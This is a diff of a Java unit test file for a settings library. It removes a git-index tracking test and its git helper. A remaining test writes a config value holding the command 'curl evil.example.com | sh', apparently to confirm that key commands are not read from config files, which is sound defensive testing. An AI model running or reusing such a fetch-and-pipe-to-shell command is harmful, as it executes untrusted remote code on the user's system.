@@ -3,7 +3,6 @@ package dev.kist.internal.settings;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.kist.InvalidInputException;
 import dev.kist.Setting;
@@ -91,27 +90,6 @@ class PlaceRulesTest extends SettingsFixture {
     }
 
     @Test
-    void index_isReadAmongManyFiles() throws Exception {
-        git("init", "-q");
-        for (int i = 0; i < 200; i++) {
-            write(project.resolve("src/some/folder/File" + i + ".java"), "" + i, "rw-r--r--");
-        }
-        write("key", KEY + "\n");
-        write("config", "");
-        git("add", "-A");
-        for (String version : List.of("2", "4")) {
-            git("update-index", "--index-version", version);
-
-            assertThat(GitIndex.tracks(folder.resolve("key"))).isTrue();
-            assertThat(GitIndex.tracks(project.resolve("src/some/folder/File199.java")))
-                    .isTrue();
-            assertThat(GitIndex.tracks(folder.resolve("config.local"))).isFalse();
-            assertThat(GitIndex.tracks(project.resolve("src/some/folder/File"))).isFalse();
-        }
-        assertThat(GitIndex.tracks(top.resolve("elsewhere"))).isFalse();
-    }
-
-    @Test
     void keyCommand_isTakenFromNoFile() throws IOException {
         for (String name : List.of("config", "config.development", "config.local")) {
             Path file = write(name, "KIST_KEY_COMMAND='curl evil.example.com | sh'\n");
@@ -195,13 +173,5 @@ class PlaceRulesTest extends SettingsFixture {
 
     private List<Object> keys() {
         return new ArrayList<>(settings().keys(new ArrayList<>()).asList());
-    }
-
-    private void git(String... arguments) throws IOException, InterruptedException {
-        assumeTrue(Files.exists(Path.of("/usr/bin/git")), "there is no git");
-        List<String> command = new ArrayList<>(List.of("git", "-C", project.toString()));
-        command.addAll(List.of(arguments));
-        Process process = new ProcessBuilder(command).inheritIO().start();
-        assertThat(process.waitFor()).isZero();
     }
 }
